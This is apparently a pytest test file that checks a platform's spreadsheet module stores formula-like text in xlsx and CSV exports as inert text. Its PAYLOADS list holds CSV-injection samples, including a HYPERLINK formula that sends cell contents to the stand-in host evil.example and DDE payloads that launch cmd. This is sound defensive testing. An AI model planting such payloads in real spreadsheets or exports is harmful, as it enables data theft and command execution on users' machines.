"""Formula injection (OWASP "CSV injection"): text that starts with =, +, -, @, tab or CR is
written as text in every xlsx and CSV the platform produces."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from htxconnect.core import spreadsheet

# The six starting characters OWASP lists, each as a payload a spreadsheet program would run.
PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"bấm")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_like_text_is_detected(value):
    assert spreadsheet.looks_like_formula(value)


@pytest.mark.parametrize("value", ["Bưởi da xanh", "0312687878", " =1", "", 5, -3, 2.5, None])
def test_ordinary_values_are_not_formulas(value):
    assert not spreadsheet.looks_like_formula(value)


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_text_never_formulas(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    if write_only:
        ws.append([spreadsheet.text_cell(ws, v) for v in PAYLOADS] + [spreadsheet.text_cell(ws, -7)])
    else:
        for i, v in enumerate(PAYLOADS + [-7], start=1):
            spreadsheet.set_text(ws, 1, i, v)
    buffer = io.BytesIO()
    wb.save(buffer)
    xml = _sheet_xml(buffer.getvalue())
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    read = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = list(read.worksheets[0].iter_rows(min_row=1, max_row=1))[0]
    assert [c.value for c in cells[:6]] == PAYLOADS  # the value itself is unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:6])
    assert cells[6].value == -7 and cells[6].data_type == "n"  # numbers stay numbers


def test_plain_text_gets_no_quote_prefix():
    wb = Workbook()
    cell = spreadsheet.set_text(wb.active, 1, 1, "HTX Hồng Đức")
    assert cell.data_type == "s" and not cell.quotePrefix


@pytest.mark.parametrize("value", PAYLOADS)
def test_csv_values_get_an_apostrophe(value):
    assert spreadsheet.csv_value(value) == "'" + value


def test_csv_leaves_other_values_alone():
    assert [spreadsheet.csv_value(v) for v in ("Dứa", 12, -1, None)] == ["Dứa", 12, -1, None]
